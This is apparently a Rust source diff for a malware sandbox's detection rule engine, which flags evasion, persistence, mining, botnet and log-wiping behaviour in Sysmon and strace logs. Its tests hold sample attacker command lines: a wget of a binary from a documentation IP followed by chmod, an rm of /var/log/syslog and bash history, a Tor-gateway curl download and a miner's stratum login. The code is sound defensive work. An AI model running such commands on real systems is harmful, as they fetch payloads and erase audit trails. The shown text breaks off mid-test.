@@ -1,6 +1,24 @@
+use std::fs;
+
+use anyhow::{bail, Context, Result};
 use chrono::{DateTime, FixedOffset};
+use regex::Regex;
+use serde::Deserialize;
+
+use crate::{
+    attack,
+    syscall::Syscall,
+    syslog::SyslogEntry,
+    sysmon::{ProcessCreate, SysmonEventData, SysmonEventId},
+};
 
-use crate::{syslog::SyslogEntry, sysmon::SysmonEventId};
+use botnet::BotnetTracker;
+use miner::PoolTracker;
+
+pub mod botnet;
+pub mod evasion;
+pub mod miner;
+pub mod persistence;
 
 #[derive(Debug, Eq, PartialEq)]
 pub enum Code {
@@ -9,102 +27,194 @@ pub enum Code {
     Chmod,
     Rm(Vec<String>),
     FileDelete(String), // target
+    Ptrace,
+    Prctl,
+    MemfdCreate,
+    Personality,
+    TracerPid,
+    ContainerCheck(String), // probed path
+    DmiCheck,
+    LongSleep(u64),     // seconds
+    SelfDelete(String), // image
+    // persisted file path or command line
+    Cron(String),
+    SystemdUnit(String),
+    RcScript(String),
+    ShellProfile(String),
+    AuthorizedKeys(String),
+    LdPreload(String),
+    AccountCreation(String),
+    KernelModule(String),
+    Stratum,
+    MiningPool(String), // destination
+    Miner(String),      // command line
+    CpuLimit,
+    Scan(u16, usize), // port and number of hosts
+    Kill(usize),      // number of processes
+    Pkill(String),    // command line
+    Firewall(String), // command line
+    Yara(String),     // rule name
+    Custom(String),   // user-defined rule name
+}
+
+impl Code {
+    pub fn name(&self) -> &str {
+        return match self {
+            Self::Mkdir => "mkdir",
+            Self::Wget => "wget",
+            Self::Chmod => "chmod",
+            Self::Rm(_) => "rm",
+            Self::FileDelete(_) => "file_delete",
+            Self::Ptrace => "ptrace",
+            Self::Prctl => "prctl",
+            Self::MemfdCreate => "memfd_create",
+            Self::Personality => "personality",
+            Self::TracerPid => "tracer_pid",
+            Self::ContainerCheck(_) => "container_check",
+            Self::DmiCheck => "dmi_check",
+            Self::LongSleep(_) => "long_sleep",
+            Self::SelfDelete(_) => "self_delete",
+            Self::Cron(_) => "cron",
+            Self::SystemdUnit(_) => "systemd_unit",
+            Self::RcScript(_) => "rc_script",
+            Self::ShellProfile(_) => "shell_profile",
+            Self::AuthorizedKeys(_) => "authorized_keys",
+            Self::LdPreload(_) => "ld_preload",
+            Self::AccountCreation(_) => "account_creation",
+            Self::KernelModule(_) => "kernel_module",
+            Self::Stratum => "stratum",
+            Self::MiningPool(_) => "mining_pool",
+            Self::Miner(_) => "miner",
+            Self::CpuLimit => "cpu_limit",
+            Self::Scan(_, _) => "scan",
+            Self::Kill(_) => "kill",
+            Self::Pkill(_) => "pkill",
+            Self::Firewall(_) => "firewall",
+            Self::Yara(_) => "yara",
+            Self::Custom(name) => name,
+        };
+    }
+}
+
+#[derive(Debug, Clone, Copy, Eq, PartialEq, Ord, PartialOrd, Deserialize)]
+pub enum Severity {
+    Info,
+    Low,
+    Medium,
+    High,
 }
 
 #[derive(Debug)]
 pub struct DetectionInfo {
-    pub event_id: SysmonEventId,
+    pub event_id: Option<SysmonEventId>, // None for syscall detections
     pub time_created: DateTime<FixedOffset>,
     pub reason_for_detection: String,
     pub code: Code,
+    pub evidence: String, // value of the event field that triggered the rule
+    pub severity: Severity,
+    pub weight: u32,             // contribution to the threat score
+    pub techniques: Vec<String>, // MITRE ATT&CK technique ids
 }
 
-pub fn mkdir(entries: &Vec<SyslogEntry>) -> Option<DetectionInfo> {
-    for e in entries {
-        if let Some(a) = e.sysmon_event.event_data.get("Image") {
-            if a.contains("/rootfs/usr/bin/mkdir") {
-                return Some(DetectionInfo {
-                    event_id: e.sysmon_event.event_id.clone(),
-                    time_created: e.sysmon_event.time_created,
-                    reason_for_detection: "Created mkdir process".to_string(),
-                    code: Code::Mkdir,
-                });
-            }
+#[derive(Debug)]
+pub struct Correlation {
+    pub reason: String,
+    pub severity: Severity,
+    pub bonus: u32, // added to the threat score on top of the rule weights
+    pub techniques: Vec<String>,
+}
+
+pub fn mkdir(e: &SyslogEntry) -> Option<DetectionInfo> {
+    if let SysmonEventData::ProcessCreate(p) = &e.sysmon_event.data {
+        if image_of(p).ends_with("/usr/bin/mkdir") {
+            return Some(DetectionInfo {
+                event_id: Some(e.sysmon_event.event_id.clone()),
+                time_created: e.sysmon_event.time_created,
+                reason_for_detection: "Created mkdir process".to_string(),
+                code: Code::Mkdir,
+                evidence: image_of(p).to_string(),
+                severity: Severity::Info,
+                weight: 2,
+                techniques: vec![],
+            });
         }
     }
 
     return None;
 }
 
-pub fn wget(entries: &Vec<SyslogEntry>) -> Option<DetectionInfo> {
-    for e in entries {
-        if let Some(a) = e.sysmon_event.event_data.get("Image") {
-            if a.contains("/rootfs/usr/bin/wget") {
-                let cmd_line = e.sysmon_event.event_data.get("CommandLine").unwrap();
-                return Some(DetectionInfo {
-                    event_id: e.sysmon_event.event_id.clone(),
-                    time_created: e.sysmon_event.time_created,
-                    reason_for_detection: format!(
-                        "Created wget process (Command Line: {})",
-                        cmd_line
-                    ),
-                    code: Code::Wget,
-                });
-            }
+pub fn wget(e: &SyslogEntry) -> Option<DetectionInfo> {
+    if let SysmonEventData::ProcessCreate(p) = &e.sysmon_event.data {
+        if image_of(p).ends_with("/usr/bin/wget") {
+            return Some(DetectionInfo {
+                event_id: Some(e.sysmon_event.event_id.clone()),
+                time_created: e.sysmon_event.time_created,
+                reason_for_detection: format!(
+                    "Created wget process (Command Line: {})",
+                    command_line_of(p)
+                ),
+                code: Code::Wget,
+                evidence: command_line_of(p).to_string(),
+                severity: Severity::Medium,
+                weight: 20,
+                techniques: vec!["T1105".to_string()],
+            });
         }
     }
 
     return None;
 }
 
-pub fn chmod(entries: &Vec<SyslogEntry>) -> Option<DetectionInfo> {
-    for e in entries {
-        if let Some(a) = e.sysmon_event.event_data.get("Image") {
-            if a.contains("/rootfs/usr/bin/chmod") {
-                return Some(DetectionInfo {
-                    event_id: e.sysmon_event.event_id.clone(),
-                    time_created: e.sysmon_event.time_created,
-                    reason_for_detection: "Created chmod process".to_string(),
-                    code: Code::Chmod,
-                });
-            }
+pub fn chmod(e: &SyslogEntry) -> Option<DetectionInfo> {
+    if let SysmonEventData::ProcessCreate(p) = &e.sysmon_event.data {
+        if image_of(p).ends_with("/usr/bin/chmod") {
+            return Some(DetectionInfo {
+                event_id: Some(e.sysmon_event.event_id.clone()),
+                time_created: e.sysmon_event.time_created,
+                reason_for_detection: "Created chmod process".to_string(),
+                code: Code::Chmod,
+                evidence: image_of(p).to_string(),
+                severity: Severity::Low,
+                weight: 10,
+                techniques: vec!["T1222.002".to_string()],
+            });
         }
     }
 
     return None;
 }
 
-pub fn rm(entries: &Vec<SyslogEntry>) -> Vec<DetectionInfo> {
-    let mut info = vec![];
-
-    for e in entries {
-        if let Some(a) = e.sysmon_event.event_data.get("Image") {
-            if a.contains("/rootfs/usr/bin/rm") {
-                if let Some(cmd_line) = e.sysmon_event.event_data.get("CommandLine") {
-                    let mut s_cmd_line: Vec<String> =
-                        cmd_line.split(" ").map(|s| s.to_string()).collect();
-                    s_cmd_line.remove(0);
+pub fn rm(e: &SyslogEntry) -> Option<DetectionInfo> {
+    if let SysmonEventData::ProcessCreate(p) = &e.sysmon_event.data {
+        if image_of(p).ends_with("/usr/bin/rm") {
+            let s_cmd_line: Vec<String> = command_line_of(p)
+                .split(" ")
+                .skip(1)
+                .map(|s| s.to_string())
+                .collect();
 
-                    info.push(DetectionInfo {
-                        event_id: e.sysmon_event.event_id.clone(),
-                        time_created: e.sysmon_event.time_created,
-                        reason_for_detection: "Created rm process".to_string(),
-                        code: Code::Rm(s_cmd_line),
-                    });
-                }
-            }
+            return Some(DetectionInfo {
+                event_id: Some(e.sysmon_event.event_id.clone()),
+                time_created: e.sysmon_event.time_created,
+                reason_for_detection: "Created rm process".to_string(),
+                code: Code::Rm(s_cmd_line),
+                evidence: command_line_of(p).to_string(),
+                severity: Severity::Low,
+                weight: 5,
+                techniques: vec!["T1070.004".to_string()],
+            });
         }
     }
 
-    return info;
+    return None;
 }
 
-pub fn wget_and_chmod(info: &Vec<DetectionInfo>) -> bool {
+pub fn wget_and_chmod(info: &[DetectionInfo]) -> bool {
     return info.iter().find(|i| i.code == Code::Wget).is_some()
         && info.iter().find(|i| i.code == Code::Chmod).is_some();
 }
 
-pub fn rm_is(info: &Vec<DetectionInfo>, path: &str) -> bool {
+pub fn rm_is(info: &[DetectionInfo], path: &str) -> bool {
     return info
         .iter()
         .find(|i| match &i.code {
@@ -114,26 +224,120 @@ pub fn rm_is(info: &Vec<DetectionInfo>, path: &str) -> bool {
         .is_some();
 }
 
-pub fn event_id_23(entries: &Vec<SyslogEntry>) -> Vec<DetectionInfo> {
-    let mut info = vec![];
+pub fn event_id_23(e: &SyslogEntry) -> Option<DetectionInfo> {
+    if e.sysmon_event.event_id != SysmonEventId::FILE_DELETE {
+        return None;
+    }
 
-    for e in entries {
-        if e.sysmon_event.event_id == SysmonEventId::FILE_DELETE {
-            if let Some(target_file_name) = e.sysmon_event.event_data.get("TargetFilename") {
-                info.push(DetectionInfo {
-                    event_id: e.sysmon_event.event_id.clone(),
-                    time_created: e.sysmon_event.time_created,
-                    reason_for_detection: "File deleted".to_string(),
-                    code: Code::FileDelete(target_file_name.clone()),
-                });
-            }
-        }
+    if let SysmonEventData::FileDelete(f) = &e.sysmon_event.data {
+        return Some(DetectionInfo {
+            event_id: Some(e.sysmon_event.event_id.clone()),
+            time_created: e.sysmon_event.time_created,
+            reason_for_detection: "File deleted".to_string(),
+            code: Code::FileDelete(f.target_filename.clone()),
+            evidence: f.target_filename.clone(),
+            severity: Severity::Low,
+            weight: 5,
+            techniques: vec!["T1070.004".to_string()],
+        });
     }
 
-    return info;
+    return None;
+}
+
+fn created_process(e: &SyslogEntry) -> Option<&ProcessCreate> {
+    return match &e.sysmon_event.data {
+        SysmonEventData::ProcessCreate(p) => Some(p),
+        _ => None,
+    };
+}
+
+// empty if absent from a partial event, so that rules on the other fields still match
+fn image_of(p: &ProcessCreate) -> &str {
+    return p.image.as_deref().unwrap_or_default();
+}
+
+fn command_line_of(p: &ProcessCreate) -> &str {
+    return p.command_line.as_deref().unwrap_or_default();
+}
+
+// file name of an executable path
+fn image_name(image: &str) -> &str {
+    return image.rsplit('/').next().unwrap_or(image);
+}
+
+fn event_detection(
+    e: &SyslogEntry,
+    reason_for_detection: &str,
+    code: Code,
+    evidence: &str,
+    severity: Severity,
+    weight: u32,
+    techniques: &[&str],
+) -> DetectionInfo {
+    return DetectionInfo {
+        event_id: Some(e.sysmon_event.event_id.clone()),
+        time_created: e.sysmon_event.time_created,
+        reason_for_detection: reason_for_detection.to_string(),
+        code,
+        evidence: evidence.to_string(),
+        severity,
+        weight,
+        techniques: techniques.iter().map(|t| t.to_string()).collect(),
+    };
+}
+
+fn syscall_detection(
+    s: &Syscall,
+    reason_for_detection: &str,
+    code: Code,
+    severity: Severity,
+    weight: u32,
+    techniques: &[&str],
+) -> DetectionInfo {
+    return DetectionInfo {
+        event_id: None,
+        time_created: s.time,
+        reason_for_detection: reason_for_detection.to_string(),
+        code,
+        evidence: s.raw.clone(),
+        severity,
+        weight,
+        techniques: techniques.iter().map(|t| t.to_string()).collect(),
+    };
 }
 
-pub fn file_deleted_at(info: &Vec<DetectionInfo>, path: &str) -> bool {
+pub fn memfd_create(s: &Syscall) -> Option<DetectionInfo> {
+    if s.name == "memfd_create" {
+        return Some(syscall_detection(
+            s,
+            "Created an anonymous file in memory",
+            Code::MemfdCreate,
+            Severity::High,
+            25,
+            &["T1620"],
+        ));
+    }
+
+    return None;
+}
+
+pub fn personality(s: &Syscall) -> Option<DetectionInfo> {
+    if s.name == "personality" && s.field("arg0")?.contains("ADDR_NO_RANDOMIZE") {
+        return Some(syscall_detection(
+            s,
+            "Disabled address space layout randomization",
+            Code::Personality,
+            Severity::Low,
+            10,
+            &[],
+        ));
+    }
+
+    return None;
+}
+
+pub fn file_deleted_at(info: &[DetectionInfo], path: &str) -> bool {
     return info
         .iter()
         .find(|i| match &i.code {
@@ -142,3 +346,667 @@ pub fn file_deleted_at(info: &Vec<DetectionInfo>, path: &str) -> bool {
         })
         .is_some();
 }
+
+pub fn miner_and_pool(info: &[DetectionInfo]) -> bool {
+    return info
+        .iter()
+        .find(|i| matches!(i.code, Code::Miner(_) | Code::Stratum))
+        .is_some()
+        && info
+            .iter()
+            .find(|i| matches!(i.code, Code::MiningPool(_)))
+            .is_some();
+}
+
+pub fn correlate(info: &[DetectionInfo]) -> Vec<Correlation> {
+    let mut correlations = vec![];
+
+    let removed_system_log = rm_is(info, "/var/log");
+    let removed_history = rm_is(info, "~/.bash_history");
+
+    if removed_system_log || removed_history {
+        let mut techniques = vec![];
+
+        if removed_system_log {
+            techniques.push("T1070.002".to_string());
+        }
+
+        if removed_history {
+            techniques.push("T1070.003".to_string());
+        }
+
+        correlations.push(Correlation {
+            reason: "Detected to remove log".to_string(),
+            severity: Severity::High,
+            bonus: 40,
+            techniques,
+        });
+    }
+
+    if wget_and_chmod(info) {
+        correlations.push(Correlation {
+            reason: "Detected creation of wget and chmod processes".to_string(),
+            severity: Severity::High,
+            bonus: 30,
+            techniques: vec!["T1105".to_string()],
+        });
+    }
+
+    if miner_and_pool(info) {
+        correlations.push(Correlation {
+            reason: "Detected cryptocurrency miner connecting to a mining pool".to_string(),
+            severity: Severity::High,
+            bonus: 30,
+            techniques: vec!["T1496".to_string()],
+        });
+    }
+
+    if file_deleted_at(info, "/root/") {
+        correlations.push(Correlation {
+            reason: "Detected to delete file under /root".to_string(),
+            severity: Severity::Medium,
+            bonus: 15,
+            techniques: vec!["T1070.004".to_string()],
+        });
+    }
+
+    return correlations;
+}
+
+#[derive(Debug, Deserialize)]
+pub struct UserRuleCondition {
+    pub field: String,
+    pub contains: Option<String>,
+    pub regex: Option<String>,
+}
+
+#[derive(Debug, Deserialize)]
+pub struct UserRule {
+    pub name: String,
+    pub description: String,
+    // either a Sysmon event id or a syscall name
+    pub event_id: Option<u8>,
+    pub syscall: Option<String>,
+    #[serde(default)]
+    pub conditions: Vec<UserRuleCondition>,
+    pub severity: Severity,
+    pub weight: u32,
+    #[serde(default)]
+    pub techniques: Vec<String>,
+    #[serde(skip)]
+    regexes: Vec<Option<Regex>>,
+}
+
+impl UserRule {
+    pub fn load(path: &str) -> Result<Vec<Self>> {
+        let json = fs::read_to_string(path).context("Failed to read rule file")?;
+        let mut rules: Vec<Self> =
+            serde_json::from_str(&json).context("Failed to parse rule file")?;
+
+        for rule in rules.iter_mut() {
+            if rule.event_id.is_some() == rule.syscall.is_some() {
+                bail!(
+                    "Rule \"{}\": needs either \"event_id\" or \"syscall\"",
+                    rule.name
+                );
+            }
+
+            for technique in &rule.techniques {
+                if !attack::is_valid_technique_id(technique) {
+                    bail!(
+                        "Rule \"{}\": invalid technique id \"{}\"",
+                        rule.name,
+                        technique
+                    );
+                }
+            }
+
+            for condition in &rule.conditions {
+                if condition.contains.is_none() && condition.regex.is_none() {
+                    bail!(
+                        "Rule \"{}\": condition on \"{}\" needs \"contains\" or \"regex\"",
+                        rule.name,
+                        condition.field
+                    );
+                }
+
+                rule.regexes.push(match &condition.regex {
+                    Some(regex) => Some(
+                        Regex::new(regex)
+                            .with_context(|| format!("Rule \"{}\": invalid regex", rule.name))?,
+                    ),
+                    None => None,
+                });
+            }
+        }
+
+        return Ok(rules);
+    }
+
+    pub fn detect(&self, e: &SyslogEntry) -> Option<DetectionInfo> {
+        if self.event_id != Some(e.sysmon_event.event_id.number()) {
+            return None;
+        }
+
+        let evidence =
+            self.match_conditions(|field| e.sysmon_event.event_data.get(field).cloned())?;
+
+        return Some(DetectionInfo {
+            event_id: Some(e.sysmon_event.event_id.clone()),
+            time_created: e.sysmon_event.time_created,
+            reason_for_detection: self.description.clone(),
+            code: Code::Custom(self.name.clone()),
+            evidence,
+            severity: self.severity,
+            weight: self.weight,
+            techniques: self.techniques.clone(),
+        });
+    }
+
+    pub fn detect_syscall(&self, s: &Syscall) -> Option<DetectionInfo> {
+        if self.syscall.as_ref() != Some(&s.name) {
+            return None;
+        }
+
+        let evidence = self.match_conditions(|field| s.field(field))?;
+
+        return Some(DetectionInfo {
+            event_id: None,
+            time_created: s.time,
+            reason_for_detection: self.description.clone(),
+            code: Code::Custom(self.name.clone()),
+            evidence: if evidence.is_empty() {
+                s.raw.clone()
+            } else {
+                evidence
+            },
+            severity: self.severity,
+            weight: self.weight,
+            techniques: self.techniques.clone(),
+        });
+    }
+
+    // returns the value of the first condition as evidence
+    fn match_conditions(&self, field: impl Fn(&str) -> Option<String>) -> Option<String> {
+        let mut evidence = None;
+
+        for (condition, regex) in self.conditions.iter().zip(&self.regexes) {
+            let value = field(&condition.field)?;
+
+            if let Some(contains) = &condition.contains {
+                if !value.contains(contains) {
+                    return None;
+                }
+            }
+
+            if let Some(regex) = regex {
+                if !regex.is_match(&value) {
+                    return None;
+                }
+            }
+
+            evidence.get_or_insert(value);
+        }
+
+        return Some(evidence.unwrap_or_default());
+    }
+}
+
+// evaluates every rule on each event as it is read, so the log is scanned only once
+pub struct RuleEngine<'a> {
+    user_rules: &'a [UserRule],
+    first_matched: Vec<bool>,
+    syscall_matched: Vec<bool>,
+    botnet: BotnetTracker,
+    pool: PoolTracker,
+    detection_info: Vec<DetectionInfo>,
+}
+
+type EventRule = fn(&SyslogEntry) -> Option<DetectionInfo>;
+
+// rules reporting only the first matching event
+const FIRST_MATCH_RULES: &[EventRule] = &[
+    mkdir,
+    wget,
+    chmod,
+    evasion::tracer_pid,
+    evasion::container_check,
+    evasion::dmi_check,
+    evasion::long_sleep,
+    miner::stratum,
+    miner::mining_pool,
+    miner::miner_command_line,
+    miner::cpu_limit,
+];
+// rules reporting every matching event
+const ALL_MATCH_RULES: &[EventRule] = &[
+    rm,
+    event_id_23,
+    evasion::self_delete,
+    persistence::file_create,
+    persistence::process_create,
+    botnet::pkill,
+    botnet::firewall,
+];
+
+type SyscallRule = fn(&Syscall) -> Option<DetectionInfo>;
+
+// rules over the syscall log, reporting only the first matching call
+const FIRST_MATCH_SYSCALL_RULES: &[SyscallRule] = &[
+    evasion::ptrace,
+    evasion::prctl,
+    evasion::tracer_pid_syscall,
+    evasion::container_check_syscall,
+    evasion::dmi_check_syscall,
+    evasion::long_sleep_syscall,
+    miner::stratum_syscall,
+    miner::cpu_limit_syscall,
+    memfd_create,
+    personality,
+];
+// rules over the syscall log, reporting every matching call
+const ALL_MATCH_SYSCALL_RULES: &[SyscallRule] = &[persistence::file_write_syscall];
+
+impl<'a> RuleEngine<'a> {
+    pub fn new(user_rules: &'a [UserRule]) -> Self {
+        return Self {
+            user_rules,
+            first_matched: vec![false; FIRST_MATCH_RULES.len()],
+            syscall_matched: vec![false; FIRST_MATCH_SYSCALL_RULES.len()],
+            botnet: BotnetTracker::new(),
+            pool: PoolTracker::new(),
+            detection_info: vec![],
+        };
+    }
+
+    // returns the detections caused by this entry
+    pub fn process(&mut self, e: &SyslogEntry) -> &[DetectionInfo] {
+        let detected = self.detection_info.len();
+
+        for (rule, matched) in FIRST_MATCH_RULES.iter().zip(self.first_matched.iter_mut()) {
+            if *matched {
+                continue;
+            }
+
+            if let Some(info) = rule(e) {
+                *matched = true;
+                self.detection_info.push(info);
+            }
+        }
+
+        for rule in ALL_MATCH_RULES {
+            self.detection_info.extend(rule(e));
+        }
+
+        self.botnet.add_event(e);
+        self.pool.add_event(e);
+
+        for rule in self.user_rules {
+            self.detection_info.extend(rule.detect(e));
+        }
+
+        return &self.detection_info[detected..];
+    }
+
+    // returns the detections caused by this syscall
+    pub fn process_syscall(&mut self, s: &Syscall) -> &[DetectionInfo] {
+        let detected = self.detection_info.len();
+
+        for (rule, matched) in FIRST_MATCH_SYSCALL_RULES
+            .iter()
+            .zip(self.syscall_matched.iter_mut())
+        {
+            if *matched {
+                continue;
+            }
+
+            if let Some(info) = rule(s) {
+                *matched = true;
+                self.detection_info.push(info);
+            }
+        }
+
+        for rule in ALL_MATCH_SYSCALL_RULES {
+            self.detection_info.extend(rule(s));
+        }
+
+        self.botnet.add_syscall(s);
+        self.pool.add_syscall(s);
+
+        for rule in self.user_rules {
+            self.detection_info.extend(rule.detect_syscall(s));
+        }
+
+        return &self.detection_info[detected..];
+    }
+
+    // path is the file's location in the container
+    pub fn process_dropped_file(
+        &mut self,
+        path: &str,
+        time_created: DateTime<FixedOffset>,
+    ) -> &[DetectionInfo] {
+        let detected = self.detection_info.len();
+        self.detection_info
+            .extend(persistence::dropped_file(path, time_created));
+        return &self.detection_info[detected..];
+    }
+
+    // adds the detections that depend on the whole detonation
+    pub fn finish(mut self) -> Vec<DetectionInfo> {
+        self.detection_info.extend(self.botnet.finish());
+        self.detection_info.extend(self.pool.finish());
+        return self.detection_info;
+    }
+}
+
+#[cfg(test)]
+pub(crate) mod tests {
+    use std::{collections::HashMap, env, process};
+
+    use chrono::{NaiveDateTime, Utc};
+
+    use super::*;
+    use crate::{syscall::StraceParser, sysmon::SysmonEvent};
+
+    // an event with the EventData Sysmon for Linux writes, created at its UtcTime
+    pub fn sysmon_entry(event_id: SysmonEventId, fields: &[(&str, &str)]) -> SyslogEntry {
+        let fields: HashMap<String, String> = fields
+            .iter()
+            .map(|(k, v)| (k.to_string(), v.to_string()))
+            .collect();
+        let time = NaiveDateTime::parse_from_str(&fields["UtcTime"], "%Y-%m-%d %H:%M:%S%.3f")
+            .unwrap()
+            .and_local_timezone(Utc)
+            .unwrap()
+            .fixed_offset();
+
+        return SyslogEntry {
+            log: String::new(),
+            sysmon_event: SysmonEvent::from_fields(event_id, time, fields),
+        };
+    }
+
+    // a process the target started, created at 12:00:13
+    pub fn process_create_entry(image: &str, command_line: &str) -> SyslogEntry {
+        return sysmon_entry(
+            SysmonEventId::PROCESS_CREATE,
+            &[
+                ("RuleName", "-"),
+                ("UtcTime", "2023-08-10 12:00:13.000"),
+                ("ProcessGuid", "{5bd6ab47-0003-64d4-0000-000000000000}"),
+                ("ProcessId", "101"),
+                ("Image", image),
+                ("CommandLine", command_line),
+                ("CurrentDirectory", "/root"),
+                ("User", "root"),
+                ("LogonGuid", "{5bd6ab47-0000-64d4-0000-000000000000}"),
+                ("LogonId", "0"),
+                ("TerminalSessionId", "3"),
+                ("IntegrityLevel", "no level"),
+                ("Hashes", "SHA256=abcd"),
+                (
+                    "ParentProcessGuid",
+                    "{5bd6ab47-0002-64d4-0000-000000000000}",
+                ),
+                ("ParentProcessId", "100"),
+                ("ParentImage", "/root/target.bin"),
+                ("ParentCommandLine", "./target.bin"),
+                ("ParentUser", "root"),
+            ],
+        );
+    }
+
+    pub fn syscall(line: &str) -> Syscall {
+        return StraceParser::new().parse_line(line).unwrap().unwrap();
+    }
+
+    fn file_delete_entry(target_filename: &str) -> SyslogEntry {
+        return sysmon_entry(
+            SysmonEventId::FILE_DELETE,
+            &[
+                ("RuleName", "-"),
+                ("UtcTime", "2023-08-10 12:00:15.000"),
+                ("ProcessGuid", "{5bd6ab47-0003-64d4-0000-000000000000}"),
+                ("ProcessId", "101"),
+                ("User", "root"),
+                ("Image", "/usr/bin/rm"),
+                ("TargetFilename", target_filename),
+                ("Hashes", "-"),
+                ("IsExecutable", "true"),
+                ("Archived", "false"),
+            ],
+        );
+    }
+
+    fn codes(info: &[DetectionInfo]) -> Vec<&str> {
+        return info.iter().map(|i| i.code.name()).collect();
+    }
+
+    #[test]
+    fn report_first_match_rules_once() {
+        let mut engine = RuleEngine::new(&[]);
+        let wget = process_create_entry("/usr/bin/wget", "wget http://198.51.100.7/x -O /tmp/x");
+
+        assert_eq!(codes(engine.process(&wget)), vec!["wget"]);
+        assert!(engine.process(&wget).is_empty());
+
+        let rm = process_create_entry("/usr/bin/rm", "rm -f /tmp/x");
+
+        assert_eq!(codes(engine.process(&rm)), vec!["rm"]);
+        assert_eq!(codes(engine.process(&rm)), vec!["rm"]);
+        assert_eq!(engine.finish().len(), 3);
+    }
+
+    #[test]
+    fn report_first_match_syscall_rules_once() {
+        let mut engine = RuleEngine::new(&[]);
+        let memfd_create = syscall("4321  1691668812.100700 memfd_create(\"x\", 0) = 3");
+        let personality =
+            syscall("4321  1691668812.100800 personality(ADDR_NO_RANDOMIZE) = 0 (PER_LINUX)");
+        let default_personality =
+            syscall("4321  1691668812.100900 personality(PER_LINUX) = 0 (PER_LINUX)");
+
+        assert_eq!(
+            codes(engine.process_syscall(&memfd_create)),
+            vec!["memfd_create"]
+        );
+        assert!(engine.process_syscall(&memfd_create).is_empty());
+        assert!(engine.process_syscall(&default_personality).is_empty());
+        assert_eq!(
+            codes(engine.process_syscall(&personality)),
+            vec!["personality"]
+        );
+    }
+
+    #[test]
+    fn report_tracker_detections_at_finish() {
+        let mut engine = RuleEngine::new(&[]);
+        let connect = syscall("4321  1691668812.140000 connect(3, {sa_family=AF_INET, sin_port=htons(4444), sin_addr=inet_addr(\"198.51.100.7\")}, 16) = 0");
+        let login = syscall("4321  1691668812.141000 write(3, \"{\\\"id\\\":1,\\\"jsonrpc\\\":\\\"2.0\\\",\\\"method\\\":\\\"login\\\",\\\"params\\\":{\\\"login\\\":\\\"44AFFq5kSiGBoZ\\\",\\\"pass\\\":\\\"x\\\"}}\\n\", 90) = 90");
+
+        assert!(engine.process_syscall(&connect).is_empty());
+        assert_eq!(codes(engine.process_syscall(&login)), vec!["stratum"]);
+
+        let info = engine.finish();
+
+        assert_eq!(codes(&info), vec!["stratum", "mining_pool"]);
+        assert_eq!(
+            info[1].code,
+            Code::MiningPool("198.51.100.7:4444".to_string())
+        );
+    }
+
+    #[test]
+    fn report_dropped_files() {
+        let mut engine = RuleEngine::new(&[]);
+        let time = DateTime::parse_from_rfc3339("2023-08-10T12:00:20Z").unwrap();
+
+        assert_eq!(
+            codes(engine.process_dropped_file("/etc/cron.d/update", time)),
+            vec!["cron"]
+        );
+        assert!(engine.process_dropped_file("/tmp/x", time).is_empty());
+    }
+
+    #[test]
+    fn correlate_detections() {
+        let mut engine = RuleEngine::new(&[]);
+        engine.process(&process_create_entry(
+            "/usr/bin/wget",
+            "wget http://198.51.100.7/x -O /tmp/x",
+        ));
+        engine.process(&process_create_entry("/usr/bin/chmod", "chmod +x /tmp/x"));
+        engine.process(&process_create_entry(
+            "/usr/bin/rm",
+            "rm -rf /var/log/syslog ~/.bash_history",
+        ));
+        engine.process(&file_delete_entry("/root/target.bin"));
+
+        let correlations = correlate(&engine.finish());
+        let reasons: Vec<&str> = correlations.iter().map(|c| c.reason.as_str()).collect();
+
+        assert_eq!(
+            reasons,
+            vec![
+                "Detected to remove log",
+                "Detected creation of wget and chmod processes",
+                "Detected to delete file under /root"
+            ]
+        );
+        assert_eq!(correlations[0].techniques, vec!["T1070.002", "T1070.003"]);
+    }
+
+    #[test]
+    fn match_partial_process_create() {
+        let entry = sysmon_entry(
+            SysmonEventId::PROCESS_CREATE,
+            &[
+                ("UtcTime", "2023-08-10 12:00:13.000"),
+                ("ProcessGuid", "{5bd6ab47-0003-64d4-0000-000000000000}"),
+                ("ProcessId", "101"),
+                ("Image", "/usr/bin/wget"),
+            ],
+        );
+        let info = wget(&entry).unwrap();
+
+        assert!(entry.sysmon_event.data_error.is_none());
+        assert!(entry.sysmon_event.data.process_guid().is_some());
+        assert_eq!(info.code, Code::Wget);
+        assert_eq!(info.evidence, "");
+    }
+
+    #[test]
+    fn nothing_to_correlate() {
+        let mut engine = RuleEngine::new(&[]);
+        engine.process(&process_create_entry("/usr/bin/rm", "rm -f /tmp/x"));
+        engine.process(&file_delete_entry("/tmp/x"));
+
+        assert!(correlate(&engine.finish()).is_empty());
+    }
+
+    const USER_RULES: &str = r#"[
+        {
+            "name": "tor_download",
+            "description": "Downloaded a file from a Tor gateway",
+            "event_id": 1,
+            "conditions": [
+                {"field": "CommandLine", "regex": "https?://[a-z2-7]{16,56}\\.onion\\."},
+                {"field": "Image", "contains": "/usr/bin/"}
+            ],
+            "severity": "High",
+            "weight": 30,
+            "techniques": ["T1090.003"]
+        },
+        {
+            "name": "setuid_root",
+            "description": "Changed the user id to root",
+            "syscall": "setuid",
+            "conditions": [{"field": "arg0", "contains": "0"}],
+            "severity": "Medium",
+            "weight": 15
+        }
+    ]"#;
+
+    fn load_rules(name: &str, json: &str) -> Result<Vec<UserRule>> {
+        let path =
+            env::temp_dir().join(format!("elf-sandbox-rules-{}-{}.json", name, process::id()));
+        fs::write(&path, json).unwrap();
+        let rules = UserRule::load(path.to_str().unwrap());
+        fs::remove_file(&path).unwrap();
+
+        return rules;
+    }
+
+    #[test]
+    fn user_event_rule() {
+        let rules = load_rules("event", USER_RULES).unwrap();
+        let mut engine = RuleEngine::new(&rules);
+        let tor = process_create_entry(
+            "/usr/bin/curl",
+            "curl -o /tmp/k http://abcdefghijklmnop.onion.ws/k",
+        );
+        let info = engine.process(&tor);
+
+        assert_eq!(info.len(), 1);
+        assert_eq!(info[0].code, Code::Custom("tor_download".to_string()));
+        assert_eq!(
+            info[0].evidence,
+            "curl -o /tmp/k http://abcdefghijklmnop.onion.ws/k"
+        );
+        assert_eq!(info[0].severity, Severity::High);
+        assert_eq!(info[0].techniques, vec!["T1090.003"]);
+
+        let clearnet =
+            process_create_entry("/usr/bin/curl", "curl -o /tmp/k http://198.51.100.7/k");
+        let local = process_create_entry(
+            "/tmp/curl",
+            "/tmp/curl -o /tmp/k http://abcdefghijklmnop.onion.ws/k",
+        );
+
+        assert!(engine.process(&clearnet).is_empty());
+        assert!(engine.process(&local).is_empty());
+    }
+
+    #[test]
+    fn user_syscall_rule() {
+        let rules = load_rules("syscall", USER_RULES).unwrap();
+        let mut engine = RuleEngine::new(&rules);
+        let info = engine.process_syscall(&syscall("4321  1691668812.101000 setuid(0) = 0"));
+
